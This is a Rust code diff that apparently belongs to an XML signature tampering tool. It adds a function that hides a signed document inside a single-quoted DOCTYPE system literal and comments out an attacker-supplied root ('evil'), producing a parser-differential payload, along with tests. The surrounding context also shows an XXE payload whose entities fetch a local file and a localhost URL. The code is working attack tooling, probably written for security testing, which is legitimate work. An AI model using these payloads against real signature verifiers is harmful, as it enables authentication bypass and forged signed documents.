@@ -96,6 +96,32 @@ pub(crate) fn write(mut text: String, marked: &Marked, edits: &DocumentEdits, ca
     text
 }
 
+/// `signed-in-doctype-literal`: `<!DOCTYPE {root} SYSTEM 'x">{signed}<!--'>` after the XML
+/// declaration of `text` (the tampered document), and `-->` after its root.
+pub(crate) fn hide_signed_in_doctype(
+    mut text: String,
+    signed: &str,
+    root: &str,
+    has_doctype: bool,
+) -> Result<String, TamperError> {
+    let fail = |reason| Err(TamperError::SignedInDoctype { reason });
+    if has_doctype {
+        return fail("a document has one DOCTYPE, and `doctype` writes another (hint: drop one of them)");
+    }
+    // XML 1.0 production [11]: a single-quoted SystemLiteral ends at the first `'`.
+    if signed.contains('\'') {
+        return fail("the signed document holds a `'`, which would end the system literal early");
+    }
+    // XML 1.0 production [15]: a comment holds no `--`; the re-parse reads the tampered root as one.
+    if text.contains("--") {
+        return fail("the tampered document holds `--`, which a comment cannot (hint: drop comment edits)");
+    }
+    let at = if text.starts_with("<?xml") { text.find("?>").map_or(0, |end| end + 2) } else { 0 };
+    text.insert_str(at, &format!("<!DOCTYPE {root} SYSTEM 'x\">{signed}<!--'>"));
+    text.push_str("-->");
+    Ok(text)
+}
+
 impl Marked {
     fn add(&mut self, markup: String) -> Node {
         let node = Node::ProcessingInstruction(MARKER.into(), self.markup.len().to_string());
@@ -175,6 +201,20 @@ mod tests {
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE R [<!ENTITY x SYSTEM \"file:///tmp/canary\">\
              <!ENTITY y SYSTEM \"http://127.0.0.1:4242/c\">]><R><!--a--><N>&x;&y;</N></R>"
         );
+    }
+
+    #[test]
+    fn the_signed_text_goes_into_a_single_quoted_system_literal() {
+        let out = hide_signed_in_doctype("<?xml version=\"1.0\"?><R>evil</R>".into(), "<R>signed</R>", "R", false);
+        assert_eq!(out.unwrap(), "<?xml version=\"1.0\"?><!DOCTYPE R SYSTEM 'x\"><R>signed</R><!--'><R>evil</R>-->");
+        for (text, signed, doctype, needle) in [
+            ("<R/>", "<R a='1'/>", false, "holds a `'`"),
+            ("<R><!--c--></R>", "<R/>", false, "holds `--`"),
+            ("<R/>", "<R/>", true, "one DOCTYPE"),
+        ] {
+            let error = hide_signed_in_doctype(text.into(), signed, "R", doctype).unwrap_err();
+            assert!(error.to_string().contains(needle), "{error}");
+        }
     }
 
     #[test]
